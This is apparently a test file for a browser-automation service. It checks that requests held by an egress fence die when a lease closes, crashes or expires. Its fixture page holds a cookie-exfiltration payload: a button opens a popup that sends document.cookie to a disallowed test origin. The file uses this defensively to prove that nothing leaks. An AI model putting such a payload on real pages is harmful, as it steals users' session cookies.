import { Redis } from 'ioredis';
import type { BrowserContext, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PlaywrightPageFactory } from '../../libs/lease/playwright-pages.js';
import {
  idemKey,
  leaseOwnProfile,
  startTestBrowserWorker,
  type TestBrowserWorker,
} from '../fixtures/browser-worker.js';
import { PageServer } from '../fixtures/page-server.js';
import { deletePrefixedKeys, testRedisUrl, uniquePrefix } from '../fixtures/redis.js';
import { sleep } from './page-fence-rig.js';

/**
 * Proving an absence: a request the fence held and then let go reached the disallowed server
 * about 3 s after the lease closed (the routes went, and the paused request with them). Nothing
 * signals a request that never comes, so the file's last case watches every case's disallowed
 * server until well past that on the wall clock: one wait for them all, not one each.
 */
const AFTER_CLOSE_WAIT_MS = 10_000;
const MINUTE_MS = 60_000;
/** A popup's act waits for its tab (up to 5 s), then the close, then the wait above. */
const CASE_TIMEOUT_MS = 90_000;

/**
 * A popup opened on about:blank, then sent to a disallowed site with the page's cookie in its URL.
 * `localhost` is another site than 127.0.0.1, so the popup's navigation moves to a renderer of its
 * own and waits in the fence while the popup's redirect guard is installed. (That wait once never
 * ended — the guard asked the paused renderer to name its frame — and the old close let the held
 * request go, unfenced.) Whether the fence has refused it or still holds it when the lease closes,
 * the request must fail and never reach the site.
 */
function leakingPage(site: PageServer, away: PageServer, name: string): string {
  const target = `${away.otherOrigin}/pages/second.html?c=`;
  return site.addPage(
    name,
    `<!doctype html><html><head><title>${name}</title></head><body>
      <script>document.cookie = 'sid=secret; path=/';</script>
      <button type="button" onclick="window.open('about:blank').location = '${target}' + encodeURIComponent(document.cookie)">Open</button>
      <button type="button" onclick="setTimeout(() => fetch('/api/slow?ms=1500'), 50)">Slow</button>
    </body></html>`,
  );
}

describe('requests a fence holds die with their lease', { timeout: CASE_TIMEOUT_MS }, () => {
  const prefix = uniquePrefix('fence-close');
  let worker: TestBrowserWorker;
  let site: PageServer;
  /** Every case's disallowed server, closed after the file. */
  const aways: PageServer[] = [];
  /** The disallowed servers the last case watches, each with when its lease closed. */
  const watched: Array<{ name: string; away: PageServer; closedAtMs: number }> = [];

  beforeAll(async () => {
    [worker, site] = await Promise.all([
      startTestBrowserWorker({
        prefix,
        pages: (current, egress) => new PlaywrightPageFactory(current, { egress }),
      }),
      PageServer.start(),
    ]);
  });

  afterAll(async () => {
    await worker?.handle.close();
    await site?.close();
    await Promise.all(aways.map((away) => away.close()));
    const redis = new Redis(testRedisUrl());
    await deletePrefixedKeys(redis, prefix);
    redis.disconnect();
  });

  /** A lease on a page of the allowed site, the lease's browser context, and the disallowed server. */
  async function leaseOnLeakingPage(runId: string) {
    const away = await PageServer.start();
    aways.push(away);
    const before = new Set(worker.handle.browser.contexts());
    const lease = await leaseOwnProfile(worker, 'fence-close', runId, site.origin);
    const context = worker.handle.browser.contexts().find((candidate) => !before.has(candidate));
    if (!context) throw new Error('the lease made no browser context');
    const awayOrigin = away.otherOrigin;
    const awayRequests: Request[] = [];
    context.on('request', (request) => {
      if (request.url().startsWith(awayOrigin)) awayRequests.push(request);
    });
    const navigated = await worker.call('POST', `${lease.path}/navigate`, {
      body: { sequence: 1, url: leakingPage(site, away, `leak-${runId.replace(/_/g, '-')}.html`) },
    });
    expect(navigated.status).toBe(200);
    return { ...lease, away, context, awayRequests, observation: navigated.body.observation };
  }

  async function click(path: string, sequence: number, observation: Observation, name: string) {
    const element = observation.elements.find((candidate) => candidate.name === name);
    return worker.call('POST', `${path}/act`, {
      body: { sequence, args: { revision: observation.revision, element: element?.ref, action: 'click' } },
    });
  }

  async function close(path: string, seal = true) {
    return worker.call('POST', `${path}/close`, { idempotencyKey: idemKey(), body: { seal } });
  }

  it('sends nothing to the disallowed site when a later step follows and the lease is closed', async () => {
    const { path, away, observation } = await leaseOnLeakingPage('run_popup_later');
    expectHeldOrRefused(await click(path, 2, observation, 'Open'));
    const observed = await worker.call('POST', `${path}/observe`, { body: {} });
    expect(observed.status).toBe(200);
    expect(away.log).toEqual([]);
    const closed = await close(path);
    expect(closed.status).toBe(200);
    expect(closed.body.state).toBe('closed');
    expect(away.log).toEqual([]);
    watched.push({ name: 'a later step, then the close', away, closedAtMs: Date.now() });
  });

  // Chromium's browser process sometimes exits after this crash, as the lease is closed; the
  // worker then starts another (test/browser/chromium-restart.test.ts) and the cases after go on.
  it('closes a lease whose page crashed while a popup request was held, and nothing leaves', async () => {
    const { path, away, context, awayRequests, observation } = await leaseOnLeakingPage('run_popup_crash');
    expectHeldOrRefused(await click(path, 2, observation, 'Open'));
    expect(awayRequests).toHaveLength(1);
    const [page] = context.pages();
    if (!page) throw new Error('the lease has no page');
    // The page's end either way: its renderer's crash, or the browser process exiting with it
    // (then Playwright tells only the close), which a wait on the crash alone never saw.
    const crashed = new Promise((resolve) => {
      page.once('crash', resolve);
      page.once('close', resolve);
    });
    const session = await context.newCDPSession(page);
    // Page.crash never answers: the renderer it would answer from is gone.
    void session.send('Page.crash').catch(() => undefined);
    await crashed;
    const closed = await close(path);
    expect(closed.status).toBe(200);
    expect(closed.body.state).toBe('closed');
    expect(away.log).toEqual([]);
    watched.push({ name: 'a crashed page, then the close', away, closedAtMs: Date.now() });
  });

  it('answers lease_expired, not an internal error, to an act still settling when its lease closes', async () => {
    const { path, away, observation } = await leaseOnLeakingPage('run_settling_close');
    await away.close();
    const acting = click(path, 2, observation, 'Slow');
    // The click's fetch holds the settle (up to 2 s); the close comes while it waits. Unsealed, so
    // the close reaches the page at once (a seal first reads the context's storage).
    await expect.poll(() => site.log.some((entry) => entry.path.startsWith('/api/slow'))).toBe(true);
    const closed = await close(path, false);
    expect(closed.status).toBe(200);
    const acted = await acting;
    expect(acted.status).toBe(409);
    expect(acted.body.error.code).toBe('lease_expired');
  });

  it('aborts a popup request held in the fence when the expiry sweep closes the lease', async () => {
    const { path, away, context, awayRequests, observation } = await leaseOnLeakingPage('run_popup_expiry');
    const failed = failures(context);
    const acting = click(path, 2, observation, 'Open');
    // The popup's request is in the browser and not at the server: the fence holds or refused it.
    await expect.poll(() => awayRequests.length, { timeout: 10_000 }).toBe(1);
    expect(away.log).toEqual([]);
    // The sweep (every 100 ms in the test worker) finds the lease past its expiry and closes it.
    // (The last case on the worker: its clock stays moved for any case after it.)
    worker.clock.advance(11 * MINUTE_MS);
    await expect
      .poll(async () => (await worker.call('GET', path)).body.state, { timeout: 15_000 })
      .toBe('closed');
    expect((await acting).status).not.toBe(500);
    // Aborted, not continued: the browser reports the request failed.
    expect(failed).toContain(awayRequests[0]);
    expect(away.log).toEqual([]);
    watched.push({ name: 'the expiry sweep', away, closedAtMs: Date.now() });
  });

  it('lets none of those held requests reach its site in the 10 s after its lease closed', async () => {
    expect(watched.length).toBeGreaterThan(0);
    // Nothing but time can show that a request held when its lease closed never arrives: 10 s is
    // well past the 3 s a released request once took to reach the site after the close.
    const lastClosedAtMs = Math.max(...watched.map(({ closedAtMs }) => closedAtMs));
    await sleep(Math.max(0, lastClosedAtMs + AFTER_CLOSE_WAIT_MS - Date.now()));
    expect(Object.fromEntries(watched.map(({ name, away }) => [name, away.log]))).toEqual(
      Object.fromEntries(watched.map(({ name }) => [name, []])),
    );
  });
});

interface Observation {
  revision: string;
  elements: { ref: string; name: string }[];
}

/**
 * The popup's act answers while its tab's navigation waits in the fence (200), or once the fence
 * has refused it (`url_disallowed`): which comes first is the machine's timing, and either way
 * the request must never reach the disallowed site.
 */
function expectHeldOrRefused(acted: { status: number; body: { error?: { code: string } } }): void {
  if (acted.status === 200) return;
  expect(acted.status, JSON.stringify(acted.body)).toBe(409);
  expect(acted.body.error?.code).toBe('url_disallowed');
}

/** The requests of `context` that failed from now on. */
function failures(context: BrowserContext): Request[] {
  const failed: Request[] = [];
  context.on('requestfailed', (request) => failed.push(request));
  return failed;
}
